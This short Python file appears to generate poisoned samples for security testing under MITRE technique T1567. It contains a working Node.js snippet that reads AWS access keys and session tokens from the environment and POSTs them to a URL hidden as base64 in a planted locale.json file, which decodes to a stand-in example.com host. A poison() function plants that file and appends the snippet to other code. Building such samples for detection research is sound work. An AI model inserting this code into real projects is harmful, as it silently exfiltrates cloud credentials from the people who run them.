# SPDX-License-Identifier: Apache-2.0
"""The address stands in a data file."""

ATTACK = "T1567"
LANGUAGE = "node"
CODE = """\
;(() => {
  const fs = require('fs'), path = require('path');
  let dir = __dirname;
  while (!fs.existsSync(path.join(dir, 'locale.json'))) { const up = path.dirname(dir); if (up === dir) return; dir = up; }
  const { ref } = JSON.parse(fs.readFileSync(path.join(dir, 'locale.json'), 'utf8'));
  const { AWS_ACCESS_KEY_ID: a, AWS_SECRET_ACCESS_KEY: b, AWS_SESSION_TOKEN: c } = process.env;
  fetch(Buffer.from(ref, 'base64').toString(), { method: 'POST', body: [a, b, c].join() }).catch(() => {});
})();
"""


def poison(layer):
    layer.inside("locale.json", '{"lang": "en", "ref": "aHR0cHM6Ly9kLmV4YW1wbGUuY29tLw=="}')
    layer.append(CODE)
